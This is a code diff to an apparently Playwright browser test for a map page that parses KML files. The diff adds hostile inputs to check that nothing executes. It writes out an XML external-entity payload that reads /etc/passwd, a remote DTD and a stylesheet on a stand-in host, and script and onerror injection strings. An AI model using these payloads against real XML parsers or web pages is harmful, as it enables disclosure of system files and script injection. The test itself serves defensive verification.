@@ -99,7 +99,7 @@ test.describe("when the worker's own script does not come", { tag: "@once" }, ()
   });
 });
 
-test("of a cut file the sound part is drawn; entities are not expanded; nothing in a file runs or becomes markup", {
+test("of a cut file the sound part is drawn; entities are not expanded; nothing in a file runs, is fetched or becomes markup", {
   tag: "@once",
 }, async ({ page }) => {
   const element = '<img src="/nowhere" onerror="window.hurt=1"><script>window.hurt=1</script>';
@@ -112,7 +112,12 @@ test("of a cut file the sound part is drawn; entities are not expanded; nothing 
   await page.route("**/kml/5G.kml", (route) => route.fulfill({ body: kmlOf({ prologue, name: "&l20;" }) }));
   await page.route("**/kml/4G-garantizada.kml", (route) => {
     const text = `<![CDATA[${element}]]>`;
-    return route.fulfill({ body: kmlOf({ folder: text, name: text, description: text }) });
+    const outside =
+      '<?xml version="1.0"?><?xml-stylesheet href="https://otro.example/x.xsl"?>' +
+      '<!DOCTYPE kml SYSTEM "https://otro.example/x.dtd" [<!ENTITY passwd SYSTEM "file:///etc/passwd">' +
+      '<!ENTITY % far SYSTEM "https://otro.example/y.dtd"> %far;]>';
+    const description = `${text}<script>window.hurt=1</script>`;
+    return route.fulfill({ body: kmlOf({ prologue: outside, folder: text, name: `${text} &passwd;`, description }) });
   });
   const dialogs: string[] = [];
   page.on("dialog", (dialog) => dialogs.push(dialog.message()));
@@ -133,6 +138,7 @@ test("of a cut file the sound part is drawn; entities are not expanded; nothing 
   await expectPainted("4g-garantizada");
   await expect(legend).toContainText(element);
   await expect(page.locator("[data-island=coverage-map]").locator("script, img[src='/nowhere']")).toHaveCount(0);
+  await expect(page.getByText("root:")).toHaveCount(0);
   expect(await page.evaluate(() => "hurt" in window)).toBe(false);
   expect(dialogs).toEqual([]);
 });
